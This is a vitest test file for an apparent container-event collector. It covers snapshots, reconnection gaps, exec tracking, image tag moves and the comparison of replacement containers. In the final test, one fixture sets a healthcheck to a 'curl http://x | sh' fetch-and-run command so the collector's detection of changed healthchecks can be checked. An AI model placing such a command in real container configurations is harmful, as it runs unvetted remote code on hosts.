import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { FeedItem } from '../../../../collector/engine/feed.ts';
import { createMemory } from '../../../../collector/engine/memory.ts';
import {
  createSmallEngine,
  execOf,
  hexId,
  inspectOf,
  type SmallEngine,
} from '../../../support/collector/small-engine.ts';
import { type Connected, connect, leftBehind, told } from '../../../support/collector/watched.ts';

const start = Date.parse('2026-11-24T12:00:00Z');
const now = (): number => Date.now();
const web = hexId('web');

let engine: SmallEngine;
const open: Connected[] = [];

beforeEach(() => {
  vi.useFakeTimers({ now: start });
  engine = createSmallEngine();
});
afterEach(async () => {
  await Promise.all(open.splice(0).map((session) => session.stop()));
  vi.useRealTimers();
});

async function watch(options: Partial<Parameters<typeof connect>[1]> = {}): Promise<Connected> {
  const session = connect(engine, { now, ...options });
  open.push(session);
  await settle();
  return session;
}
/** Lets the replay's grace pass and everything be handled. */
const settle = (): Promise<unknown> => vi.advanceTimersByTimeAsync(300);
const say = (action: string, actor = web, attributes: Record<string, string> = {}): void =>
  engine.say({ action, actor, attributes, at: now() });

function create(id = web, look: Parameters<typeof inspectOf>[1] = {}): void {
  engine.containers.set(id, inspectOf(id, { Created: new Date(now()).toISOString(), ...look }));
  say('create', id);
}

describe('the first look at a host', () => {
  it('tells what is there as present, without a gap, and goes on from there', async () => {
    engine.containers.set(web, inspectOf(web));
    const session = await watch();
    expect(told(session.items)).toEqual(['snapshot present']);
    expect(leftBehind(session.items).cursor).toBeDefined();
  });

  it('leaves no cursor before all that was there is told: a crash in between starts over', async () => {
    engine.containers.set(web, inspectOf(web));
    const answer = engine.hang(web);
    const session = await watch();
    await vi.advanceTimersByTimeAsync(6_000);
    expect(leftBehind(session.items).cursor).toBeUndefined();
    answer();
    await settle();
    expect(leftBehind(session.items).cursor).toBeDefined();
  });

  it('takes a container whose event comes before the stock is taken for present', async () => {
    engine.containers.set(web, inspectOf(web));
    const answer = engine.hang('');
    const session = await watch();
    say('start');
    await settle();
    answer();
    await settle();
    expect(told(session.items)).toEqual(['snapshot present', 'event start']);
  });
});

describe('events', () => {
  it('come in the order of the engine with the facts of their time', async () => {
    const session = await watch();
    create();
    say('start');
    await vi.advanceTimersByTimeAsync(7_000);
    say('die');
    engine.containers.delete(web);
    say('destroy');
    await settle();
    expect(told(session.items)).toEqual(['event create', 'event start', 'event die', 'event destroy']);
    const events = session.items.filter((item) => item.kind === 'event');
    expect(events.map(({ known }) => known?.state)).toEqual(['created', 'running', 'exited', 'dead']);
    expect(events.at(-1)?.known?.snapshot.container.id).toBe(web);
    expect(events.at(-1)?.known?.startedAt).toBe(start + 300);
  });

  it('of a container that does not answer go without its facts, which are told late; others do not wait for them', async () => {
    const session = await watch();
    const slow = hexId('slow');
    const answer = engine.hang(slow);
    create(slow);
    await vi.advanceTimersByTimeAsync(3_000);
    create(web);
    say('top', slow);
    await settle();
    expect(told(session.items)).toEqual(['event create', 'event create', 'event top']);
    answer();
    await settle();
    expect(told(session.items).at(-1)).toBe('snapshot create');
    expect(session.items.find((item) => item.kind === 'snapshot')?.known.id).toBe(slow);
  });

  it('of execs in a container that does not answer are told once more when it does, with who runs what', async () => {
    const session = await watch();
    create();
    await settle();
    const [first, second] = [hexId('exec first'), hexId('exec second')];
    for (const id of [first, second]) engine.execs.set(id, execOf(id, web, ['sh'], { running: true }));
    const answer = engine.hang(web);
    say('exec_start: sh', web, { execID: first });
    await vi.advanceTimersByTimeAsync(3_000);
    say('exec_start: sh', web, { execID: second });
    await settle();
    const bare = session.items.filter((item) => item.kind === 'event' && item.prepared.event.action === 'exec_start');
    expect(bare.map((item) => item.kind === 'event' && item.prepared.exec)).toEqual([undefined, undefined]);
    answer();
    await settle();
    const late = session.items.filter((item) => item.kind === 'exec-late');
    expect(late).toMatchObject([
      { prepared: { exec: { id: first } }, known: { id: web } },
      { prepared: { exec: { id: second } }, known: { id: web } },
    ]);
  });

  it('that cannot be read are one gap, and the next one is taken', async () => {
    const session = await watch();
    engine.write('{"Type":"container"}');
    engine.write('not json');
    create();
    await vi.advanceTimersByTimeAsync(5_000);
    expect(told(session.items)).toEqual(['event create', 'gap sensor-failed']);
    expect(session.items.find((item) => item.kind === 'gap')?.gap).toMatchObject({
      lost: 2,
      scope: ['events', 'exec'],
    });
  });

  it('of an exec that the runtime refuses have no end: its inspect tells (L6)', async () => {
    const session = await watch();
    create();
    const [refused, ran, runs] = [hexId('exec refused'), hexId('exec ran'), hexId('exec runs')];
    engine.execs.set(refused, execOf(refused, web, ['nosuch'], { running: false, exit: 126 }));
    engine.execs.set(ran, execOf(ran, web, ['sh'], { running: false, exit: 127 }));
    engine.execs.set(runs, execOf(runs, web, ['sleep']));
    for (const execID of [refused, ran, runs]) say('exec_start: x', web, { execID });
    say('exec_die', web, { execID: ran });
    await vi.advanceTimersByTimeAsync(3_000);
    const found = session.items.filter((item) => item.kind === 'exec-refused');
    expect(found).toMatchObject([{ exec: { id: refused }, known: { id: web }, at: start + 300 }]);
  });

  it('are all there in a flood', async () => {
    const session = await watch();
    create();
    for (let index = 0; index < 1_000; index += 1) {
      const id = hexId(`exec ${index}`);
      engine.execs.set(id, execOf(id, web, ['true', String(index)]));
      say(`exec_create: true ${index}`, web, { execID: id });
    }
    await settle();
    const execs = session.items.filter((item) => item.kind === 'event' && item.prepared.exec !== undefined);
    expect(execs).toHaveLength(1_000);
    expect(execs.every((item) => item.kind === 'event' && item.prepared.exec?.inspect !== undefined)).toBe(true);
  });
});

describe('a lost connection', () => {
  it('goes on at the last event: nothing twice, nothing missing, no gap', async () => {
    const first = await watch();
    create();
    await settle();
    engine.cut();
    expect(await first.ended).toEqual(new Error('the event stream ended'));
    say('start');
    const memory = createMemory(leftBehind(first.items));
    const second = await watch({ memory });
    say('die');
    await settle();
    expect(told(second.items)).toEqual(['event start', 'event die']);
    expect(engine.requests).toContain(`events ${(start + 250) / 1000}0000001`);
  });

  it('repeats an event that left the engine behind a newer one', async () => {
    const first = await watch();
    create();
    engine.say({ action: 'start', actor: web, at: now() + 3 });
    await settle();
    engine.cut();
    await first.ended;
    engine.say({ action: 'pause', actor: web, at: start + 301 });
    const second = await watch({ memory: createMemory(leftBehind(first.items)) });
    expect(told(second.items)).toEqual(['event pause']);
  });

  it('is a gap when the engine forgot the last event: from there to the first that it remembers', async () => {
    const first = await watch();
    create();
    await settle();
    engine.cut();
    await first.ended;
    await vi.advanceTimersByTimeAsync(60_000);
    for (let index = 0; index < 300; index += 1) say('top');
    const second = await watch({ memory: createMemory(leftBehind(first.items)) });
    const [gap] = second.items.filter((item) => item.kind === 'gap');
    expect(gap?.gap).toMatchObject({ reason: 'events-evicted', from: start + 300, scope: ['events', 'exec'] });
    expect(told(second.items)).toEqual(['gap events-evicted', ...Array<string>(256).fill('event top')]);
  });

  it('is a gap when the engine restarted, and what changed meanwhile is found', async () => {
    const first = await watch();
    create();
    create(hexId('gone'));
    await settle();
    engine.cut();
    await first.ended;
    engine.restart();
    engine.containers.delete(hexId('gone'));
    engine.containers.set(hexId('new'), inspectOf(hexId('new')));
    await vi.advanceTimersByTimeAsync(20_000);
    const second = await watch({ memory: createMemory(leftBehind(first.items)), lostAt: start + 600 });
    expect(told(second.items)).toEqual([
      'gap engine-unreachable',
      'gap engine-restarted',
      'snapshot resync',
      'snapshot resync',
      'vanished',
      'gap unknown-container',
    ]);
  });

  it('is told as absence of the collector when it is a new one', async () => {
    const first = await watch();
    create();
    await settle();
    await first.stop();
    await vi.advanceTimersByTimeAsync(60_000);
    const memory = createMemory({ ...leftBehind(first.items), lastBeat: start });
    const second = await watch({ memory });
    expect(told(second.items)).toEqual(['gap collector-stopped', 'snapshot resync']);
    expect(second.items.find((item) => item.kind === 'gap')?.gap.scope).toEqual(['connections', 'resources']);
  });

  it('that breaks before anything came says nothing yet, and the next one does', async () => {
    const first = await watch();
    create();
    await settle();
    engine.cut();
    await first.ended;
    engine.restart();
    const memory = createMemory(leftBehind(first.items));
    const answer = engine.hang('');
    const second = await watch({ memory });
    engine.cut();
    answer();
    await second.ended;
    expect(told(second.items)).toEqual([]);
    const third = await watch({ memory });
    expect(told(third.items)).toEqual(['gap engine-restarted', 'snapshot resync']);
  });
});

it('a new process tells once of all that is there, the same process does not again', async () => {
  const first = await watch();
  create();
  await settle();
  engine.cut();
  await first.ended;
  await vi.advanceTimersByTimeAsync(3_000);
  const memory = createMemory(leftBehind(first.items));
  const second = await watch({ memory });
  expect(told(second.items)).toEqual(['snapshot resync']);
  engine.cut();
  await second.ended;
  const third = await watch({ memory });
  expect(told(third.items)).toEqual([]);
});

describe('every now and then', () => {
  it('stock is taken: only what changed is told, and a container that no event had told is a gap', async () => {
    engine.containers.set(web, inspectOf(web));
    const session = await watch({ resyncMs: 60_000 });
    await vi.advanceTimersByTimeAsync(60_000);
    expect(told(session.items)).toEqual(['snapshot present']);
    engine.containers.set(web, inspectOf(web, { HostConfig: { Privileged: true } }));
    engine.containers.set(hexId('quiet'), inspectOf(hexId('quiet')));
    await vi.advanceTimersByTimeAsync(60_000);
    expect(told(session.items).slice(1)).toEqual(['snapshot poll', 'snapshot resync', 'gap unknown-container']);
  });

  it('a container is not unknown because its facts could not be had at its creation', async () => {
    const session = await watch();
    say('create');
    await settle();
    engine.containers.set(web, inspectOf(web));
    await vi.advanceTimersByTimeAsync(60_000);
    expect(told(session.items)).toEqual(['event create', 'snapshot resync']);
  });

  it('dead containers are forgotten, in what is left behind too', async () => {
    const session = await watch();
    create();
    await settle();
    engine.containers.delete(web);
    say('destroy');
    await settle();
    expect(leftBehind(session.items).containers.map(({ id }) => id)).toEqual([web]);
    await vi.advanceTimersByTimeAsync(11 * 60_000);
    expect(leftBehind(session.items).containers).toEqual([]);
  });
});

it('two sessions of one recording leave the same items behind', async () => {
  const play = async (): Promise<readonly FeedItem[]> => {
    vi.setSystemTime(start);
    engine = createSmallEngine();
    const session = await watch();
    create();
    say('start');
    await settle();
    await session.stop();
    return session.items;
  };
  expect(told(await play())).toEqual(told(await play()));
});

describe('images', () => {
  const [app, other] = ['a', 'b'].map((letter) => `sha256:${letter.repeat(64)}`) as [string, string];
  const list = (id: string): void => engine.list([{ Id: id, RepoTags: ['lab/app:1'] }]);
  const made = { Image: app, Config: { Image: 'lab/app:1' } };

  it('a name that is pointed elsewhere under a running container says so, and containers made from it', async () => {
    list(app);
    engine.containers.set(web, inspectOf(web, made));
    const session = await watch();
    engine.say({ type: 'image', action: 'tag', actor: other, attributes: { name: 'lab/app:1' }, at: now() });
    await settle();
    const tagged = session.items.find((item) => item.kind === 'event');
    expect(tagged?.image).toMatchObject({ previous_id: app, in_use_by: [web] });
    say('update');
    await settle();
    const updated = session.items.findLast((item) => item.kind === 'event');
    expect(updated?.lineage).toEqual({ image: { moved: true, registry_new: false }, predecessor: undefined });
  });

  it('a name that moved while nobody watched is found', async () => {
    list(app);
    engine.containers.set(web, inspectOf(web, made));
    const first = await watch();
    await first.stop();
    list(other);
    const second = await watch({ memory: createMemory(leftBehind(first.items)) });
    expect(told(second.items)).toContain('image-moved');
    expect(second.items.find((item) => item.kind === 'image-moved')?.image).toMatchObject({ in_use_by: [web] });
    const third = await watch({ memory: createMemory(leftBehind([...first.items, ...second.items])) });
    expect(told(third.items)).not.toContain('image-moved');
  });

  it('of an engine that does not list them, or of the regular look, nothing is asked and nothing said', async () => {
    engine.list(undefined);
    engine.containers.set(web, inspectOf(web, made));
    const session = await watch();
    expect(session.items.find((item) => item.kind === 'snapshot')?.lineage).toEqual({
      image: {},
      predecessor: undefined,
    });
    await vi.advanceTimersByTimeAsync(61_000);
    expect(engine.requests.filter((request) => request === 'images')).toHaveLength(1);
  });

  it('a replacement is compared with the container that had its name', async () => {
    const test = (text: string) => ({ Config: { Image: 'lab/app:1', Healthcheck: { Test: ['CMD-SHELL', text] } } });
    engine.containers.set(web, inspectOf(web, { Name: '/db', ...test('true') }));
    const session = await watch();
    const next = hexId('next');
    create(next, { Name: '/db', ...test('curl http://x | sh') });
    await settle();
    const created = session.items.findLast((item) => item.kind === 'event');
    expect(created?.lineage?.predecessor).toEqual({ image_changed: false, healthcheck_changed: true });
  });
});
